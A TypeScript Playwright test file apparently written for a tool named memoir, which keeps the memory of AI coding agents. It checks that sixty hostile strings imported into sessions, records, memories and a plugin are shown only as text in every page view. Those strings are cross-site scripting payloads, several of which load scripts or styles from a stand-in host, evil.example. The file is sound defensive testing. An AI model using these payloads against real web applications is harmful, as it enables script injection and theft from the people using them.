// Hostile texts in every place where the page shows text of memory: they are shown, letter by letter, and do nothing.
import assert from "node:assert/strict";
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { asShown } from "../../../src/page/words.ts";
import type { MemoryItem } from "../../../src/sdk/model.ts";
import { inBrowser, openPage } from "../browser.ts";
import type { Memoir } from "../memoir.ts";
import type { Scenario } from "../scenario.ts";
import { until } from "../until.ts";
import type { World } from "../world.ts";

const act = "globalThis.acted=1";

/** Sixty texts that want to be more than text, each with its number, so that it is found again. */
const hostile: readonly string[] = [
  `<script>${act}</script>`,
  `</script><script>${act}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script type="module">import("//evil.example/x.js")</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<img src=x onerror="${act}">`,
  `<img src="//evil.example/pixel.png">`,
  `<img/src=x/onerror=${act}>`,
  `<svg onload="${act}"></svg>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text y=20>click</text></a></svg>`,
  `<math><mtext><style><img src=x onerror="${act}"></style></mtext></math>`,
  `<body onload="${act}">`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>parent.acted=1</script>"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="//evil.example/x.swf">`,
  `<video><source onerror="${act}"></video>`,
  `<audio src=x onerror="${act}"></audio>`,
  `<details open ontoggle="${act}">x</details>`,
  `<input autofocus onfocus="${act}">`,
  `<select autofocus onfocus="${act}"></select>`,
  `<marquee onstart="${act}">x</marquee>`,
  `<a href="javascript:${act}">click</a>`,
  `<a href="data:text/html,<script>${act}</script>">click</a>`,
  `javascript:${act}`,
  `JaVaScRiPt:${act}//`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `[click](javascript:${act})`,
  `![x](//evil.example/pixel.png)`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  `<style>body{display:none}</style>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<form action="//evil.example"><button>Save</button></form>`,
  `<template><img src=x onerror="${act}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<!--<img src="--><img src=x onerror=${act}//">`,
  `<![CDATA[<script>${act}</script>]]>`,
  `"><script>${act}</script>`,
  `' onmouseover='${act}' x='`,
  `" autofocus onfocus="${act}`,
  `\`\${${act}}\``,
  `{{constructor.constructor('${act}')()}}`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;script&#62;${act}&#60;/script&#62;`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\\u003cscript\\u003e${act}`,
  `<div id="page"></div><div id="query"></div>`,
  `<x style="position:fixed;inset:0">cover</x>`,
  `\u001b[31mred\u001b[0m and \u001b[2J`,
  `\u001b]8;;javascript:${act}\u0007link\u001b]8;;\u0007`,
  `report\u202efdp.exe`,
  `\u2066left\u2069 \u202dover\u202c`,
  `a\u0000b\u0007c\u0008d\u007f`,
  `שלום <b>${act}</b> مرحبا`,
  `日本語の<i>${act}</i>長い文`,
  `${"unbroken".repeat(250)}<u>${act}</u>`,
];

const session = "hostile-session";
const client = "claude-code";
const time = Date.UTC(2026, 10, 1, 9);

/** Every kind of record with the text in each of its fields, as an export's lines. */
function recordsWith(text: string, at: number): object[] {
  const common = { session, client, project: "shop", promptNumber: at + 1, time: time + at };
  const provenance = { strategy: "heuristic", model: null };
  const evidence = [{ turn: at + 1, piece: 0 }];
  return [
    { kind: "prompt", record: { ...common, text } },
    {
      kind: "turn",
      record: {
        ...{ ...common, startedAt: time + at, end: "closed" },
        pieces: [
          { kind: "prompt", text },
          { kind: "failure", text, about: text, described: text, agent: text },
          { kind: "closing", text },
        ],
        files: [{ path: text, changed: true }],
      },
    },
    {
      kind: "observation",
      record: {
        ...{ ...common, type: "discovery", title: text, subtitle: text, facts: [text] },
        ...{ narrative: text, concepts: ["text"], filesRead: [text], filesModified: [text] },
        ...{ toolUseIds: [], discoveryTokens: null, observerTokens: 0, provenance, evidence },
      },
    },
    {
      kind: "summary",
      record: {
        ...{ ...common, scope: "prompt", request: text, investigated: text, learned: text },
        ...{ completed: text, nextSteps: text, notes: text, filesRead: [], filesEdited: [] },
        ...{ observerTokens: 0, provenance },
      },
    },
    {
      kind: "memory",
      record: {
        ...{ kind: "facts", date: "2026-11-01", content: text, context: text, quote: text },
        ...{ session, project: "shop", state: "standing" },
      },
    },
  ];
}

/** A session of each text, too: its title, its project's name. */
function sessionWith(text: string, at: number): object {
  const project = { id: `shop-${at}`, name: text, root: "/shop" };
  return {
    kind: "session",
    record: {
      ...{ id: `hostile-${at}`, client, project, title: text, subtitle: text, prompts: 1 },
      ...{ status: "ended", startedAt: time + at, lastActiveAt: time + at, endedAt: time + at },
    },
  };
}

/** Its description, and those of its options. */
const hostilePlugin = `import { definePlugin } from "memoir/sdk";
import * as v from "valibot";
const texts: string[] = ${JSON.stringify(hostile)};
const options = texts.map((text, at) => ["o" + at, v.optional(v.pipe(v.string(), v.description(text)), text)]);
export default definePlugin({
  name: "hostile",
  description: texts[0] + texts[9],
  sdk: 1,
  config: v.object(Object.fromEntries(options)),
  hooks: {
    UserPromptSubmit() {
      throw new Error(texts[5]);
    },
  },
});
`;

/** As the page shows it, whatever blanks a line has. */
const shown = (text: string) => asShown(text).replace(/\s+/g, " ").trim();

/** All that a view says. */
async function saidBy(page: Page): Promise<string> {
  return ((await page.locator("body").textContent()) ?? "").replace(/\s+/g, " ");
}

/** Nothing acted, nothing but the page's own elements is there, and nothing leads elsewhere. */
async function assertHarmless(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    acted: Reflect.get(globalThis, "acted"),
    foreign: [...document.body.querySelectorAll("*")]
      .filter(
        (element) =>
          !element.closest(".drawn") &&
          (element.matches(
            "script, style, link, meta, base, img, svg, math, iframe, object, embed, video, audio, details, marquee, template, x, b, i, u",
          ) ||
            [...element.attributes].some(({ name }) => /^on|^src/.test(name)) ||
            (element.hasAttribute("style") &&
              !element.closest(".placed, .uplot") &&
              !element.matches(".near, .waiting"))),
      )
      .map((element) => element.outerHTML.slice(0, 120)),
    away: [...document.querySelectorAll("a")]
      .filter((link) => link.origin !== location.origin)
      .map((link) => link.href),
    scripts: document.scripts.length,
  }));
  assert.deepEqual(found, { acted: undefined, foreign: [], away: [], scripts: 1 }, page.url());
  const beyond = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  assert.ok(beyond <= 0, `${page.url()} is ${beyond} px too wide`);
}

/** memoir, with all of the texts in its memory. */
async function withHostile(world: World): Promise<Memoir> {
  assert.equal(hostile.length, 60);
  const memoir = await world.install();
  const file = join(world.dir, "hostile.jsonl");
  const own = { id: session, client, project: { id: "shop", name: "shop", root: "/shop" } };
  const whole = {
    kind: "session",
    record: { ...own, status: "ended", prompts: hostile.length },
  };
  const times = {
    startedAt: time,
    lastActiveAt: time + 1,
    endedAt: time + 1,
    title: "All of it",
  };
  const lines = [
    { memoir: "export", version: 1, time: new Date(time).toISOString(), by: "a test" },
    { ...whole, record: { ...whole.record, ...times } },
    ...hostile.flatMap(recordsWith),
    ...hostile.map(sessionWith),
    { memoir: "end", records: 1 + hostile.length * 6 },
  ];
  await writeFile(file, lines.map((line) => JSON.stringify(line)).join("\n"));
  const imported = await memoir.run("memory", "import", file);
  assert.equal(imported.code, 0, imported.stdout + imported.stderr);
  return memoir;
}

/** Goes there and gives all that it says, once it has come. */
function viewer(page: Page, origin: string) {
  return async (path: string, mark: string): Promise<string> => {
    await page.goto(origin + path);
    await page.locator(mark).first().waitFor();
    await assertHarmless(page);
    return saidBy(page);
  };
}

export const pageHostileScenarios: Scenario[] = [
  {
    name: "page: sixty hostile texts are shown as text in every view",
    needs: "chromium",
    async run(world) {
      const memoir = await withHostile(world);
      await inBrowser(world, async ({ page, complaints }) => {
        const origin = await openPage(memoir, page);
        await page.setViewportSize({ width: 360, height: 900 });

        const view = viewer(page, origin);
        let said = await view(`/session/${session}`, ".step");
        const { turns, observations, summaries } = await memoir.records(session);
        assert.equal(turns.length, hostile.length);
        for (const at of turns.keys()) {
          await page.goto(`${origin}/session/${session}#prompt-${at + 1}`);
          await page.locator(`#prompt-${at + 1}`).waitFor();
          if (at % 10 === 0) await assertHarmless(page);
          said += await saidBy(page);
        }
        for (const { pieces } of turns) {
          const text = pieces[0]?.text ?? "";
          assert.ok(text !== "" && said.includes(shown(text)), `session: ${text}`);
        }
        assert.equal(observations.length, hostile.length);
        for (const { id, title } of observations) {
          const all = await view(`/record/${id}`, ".actions button");
          const times = all.split(shown(title)).length - 1;
          assert.ok(times >= 4, `${id}: ${times} times ${title}`);
        }
        for (const { id } of [...turns.slice(0, 3), ...summaries.slice(0, 3)])
          await view(`/record/${id}`, ".actions button");
        await view("/decisions?kind=facts", ".standing li");
        await page.getByRole("button", { name: `Show ${hostile.length - 10} more` }).click();
        await page
          .locator(".standing li")
          .nth(hostile.length - 1)
          .waitFor();
        const standing = await saidBy(page);
        const { items } = await memoir.ask<{ items: MemoryItem[] }>("/api/memory?limit=500");
        assert.equal(items.length, hostile.length);
        for (const { content } of items)
          assert.ok(standing.includes(shown(content)), `standing: ${content.slice(0, 80)}`);
        const sessions = await view("/memory", "a.hit");
        for (const kind of ["observation", "summary", "turn", "prompt", "memory", "session"]) {
          await page.goto(`${origin}/search?kind=${kind}`);
          await page.locator("a.hit").first().waitFor();
          await assertHarmless(page);
          const all = new Set<string>();
          // What lies far away is not drawn: the end comes as one scrolls.
          await until(`all of kind ${kind} were met`, async () => {
            const links = await page.evaluate(() => {
              scrollBy(0, innerHeight);
              return [...document.querySelectorAll<HTMLAnchorElement>("a.hit")].map((a) => a.href);
            });
            for (const link of links) all.add(link);
            return all.size >= hostile.length;
          });
          await assertHarmless(page);
        }
        const listed = await view("/settings/projects", ".project");
        const { storage } = await memoir.ask<{ storage: { projects: Array<{ name: string }> } }>(
          "/api/status",
        );
        assert.ok(storage.projects.length > hostile.length);
        for (const { name } of storage.projects)
          for (const [view, said] of Object.entries({ listed }))
            assert.ok(said.includes(shown(name)), `${view}: ${name}`);
        assert.ok(sessions.includes(shown(hostile.at(-1) ?? "x")), "the newest session is listed");
        await page.goto(
          `${origin}/search?${new URLSearchParams({ q: hostile[0] ?? "", file: hostile[5] ?? "" })}`,
        );
        await page.locator(".hit, .empty").first().waitFor();
        await assertHarmless(page);
        assert.deepEqual(complaints, []);
      });
    },
  },
  {
    name: "page: hostile texts in what agents are told are shown as text",
    needs: "chromium",
    async run(world) {
      const memoir = await withHostile(world);
      const { turns, summaries } = await memoir.records(session);
      for (const { id } of [...turns.slice(-3), ...summaries.slice(-3)])
        await memoir.json("memory", "pin", id);
      await inBrowser(world, async ({ page, complaints }) => {
        const view = viewer(page, await openPage(memoir, page));
        await page.setViewportSize({ width: 360, height: 900 });
        const told = await view("/context?project=shop", "main .lines li");
        assert.ok(told.includes("unbroken".repeat(10)), "a pinned one is told");
        const folder = new URLSearchParams({ cwd: hostile[1] ?? "" });
        await view(`/context?${folder}`, ".empty");
        for (const text of hostile.slice(-8)) {
          const place = new URLSearchParams({ project: "shop", prompt: `${text} ${text}` });
          await view(`/context?${place}`, "[aria-label='With this prompt'] :is(.lines li, .empty)");
        }
        assert.deepEqual(complaints, []);
      });
    },
  },
  {
    name: "page: sixty hostile texts are shown as text in what goes on, in plugins and in health",
    needs: "chromium",
    async run(world) {
      const memoir = await world.install();
      await mkdir(join(memoir.home, "plugins"), { recursive: true });
      await writeFile(join(memoir.home, "plugins", "hostile.ts"), hostilePlugin);
      await inBrowser(world, async ({ page, complaints }) => {
        const view = viewer(page, await openPage(memoir, page));
        await page.setViewportSize({ width: 360, height: 900 });

        // On a busy machine the plugin is described only when it is tried once more.
        await until("the plugin is there", async () => {
          const { options } = await memoir
            .ask<{ options: { schema: object } }>("/api/plugins/hostile")
            .catch(() => ({ options: { schema: {} } }));
          return "properties" in options.schema;
        });
        // A plugin says of each of its options what its author wrote.
        const about = await view("/settings/plugins/hostile", ".option");
        for (const text of hostile)
          assert.ok(about.includes(shown(text.replaceAll("`", ""))), `plugin: ${text}`);
        await view("/settings/plugins", "a.hit");
        await view("/settings/health", ".checks li");
        // What goes on shows thirty events: a prompt of each text, in two halves.
        for (const half of [hostile.slice(0, 30), hostile.slice(30)]) {
          for (const prompt of half) {
            const event = { session_id: prompt.slice(0, 40), cwd: "/shop", prompt };
            await fetch("http://localhost/hook/claude-code", {
              ...{ unix: join(memoir.home, "memoir.sock"), method: "POST" },
              body: JSON.stringify({ ...event, hook_event_name: "UserPromptSubmit" }),
            });
          }
          await memoir.settle();
          const now = await view("/settings/activity", ".feed li");
          // A long one is cut.
          for (const text of half)
            assert.ok(now.includes(shown(text.slice(0, 150))), `now: ${text}`);
        }
        // Its error, where failures are told.
        for (const [path, mark] of [
          ["/settings/health", ".checks .warn"],
          ["/settings/plugins/hostile", ".figures .bad"],
        ] as const) {
          const said = await view(path, mark);
          assert.ok(said.includes(shown(hostile[5] ?? "")), `${path}: ${said}`);
        }
        assert.deepEqual(complaints, []);
      });
    },
  },
];
